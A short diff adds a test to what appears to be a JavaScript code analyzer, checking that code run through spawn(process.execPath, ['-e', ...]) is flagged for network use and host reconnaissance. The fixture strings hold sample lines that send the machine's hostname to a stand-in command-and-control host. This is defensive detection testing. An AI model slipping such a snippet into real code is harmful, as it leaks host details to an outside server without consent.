@@ -364,3 +364,10 @@ test('independent review: a drop-in http/https from any module (follow-redirects
   assert.ok(caps(analyzeSource("const lib = require('some-wrapper');\nlib.http.get('http://c2.example.invalid/');\n")).includes('network'));
   assert.ok(!caps(analyzeSource("const lib = require('some-wrapper');\nlib.http.status(200);\n")).includes('network'));
 });
+
+test('independent review: spawn(process.execPath, ["-e", code]) analyses code as code', () => {
+  const source = "const code = \"require('https').get('https://c2.example.invalid/?h=' + require('os').hostname())\";\nrequire('child_process').spawn(process.execPath, ['-e', code]);\n";
+  const found = caps(analyzeSource(source));
+  assert.ok(found.includes('network') && found.includes('recon/host-recon'), found.join(' '));
+  assert.ok(!caps(analyzeSource("require('child_process').spawn(process.execPath, ['-e', 'console.log(1)']);\n")).includes('network'));
+});
